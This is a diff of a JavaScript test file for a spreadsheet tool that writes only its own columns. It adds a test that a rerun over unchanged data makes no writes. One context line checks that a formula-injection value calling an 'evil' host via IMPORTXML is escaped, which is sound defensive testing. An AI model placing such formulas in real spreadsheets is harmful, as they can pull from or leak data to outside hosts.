@@ -33,6 +33,14 @@ describe('writing the columns the tool owns', () => {
     expect(plan.writes[0].values[0]).toEqual([`'=IMPORTXML("http://evil")`]);
   });
 
+  it('writes nothing when every owned cell already holds its value (a rerun over unchanged data)', () => {
+    const { table } = readTable(PLAN_SPEC, values, ['月份', '工作内容']);
+    const plan = planOwnedWrites(PLAN_SPEC, table, new Map([[2, { 计划编号: '2023-0001' }], [4, { 计划编号: '2023-0002' }]]));
+    expect(plan).toEqual({ headerWrite: null, writes: [] });
+    const changed = planOwnedWrites(PLAN_SPEC, table, new Map([[2, { 计划编号: '2023-0001' }], [4, { 计划编号: '2023-0009' }]]));
+    expect(changed.writes).toHaveLength(1);
+  });
+
   it('refuses to write a column the clerk owns', () => {
     const { table } = readTable(PLAN_SPEC, values, ['月份', '工作内容']);
     expect(() => planOwnedWrites(PLAN_SPEC, table, new Map([[2, { 工作内容: 'x' }]]))).toThrow('not a tool-owned column');
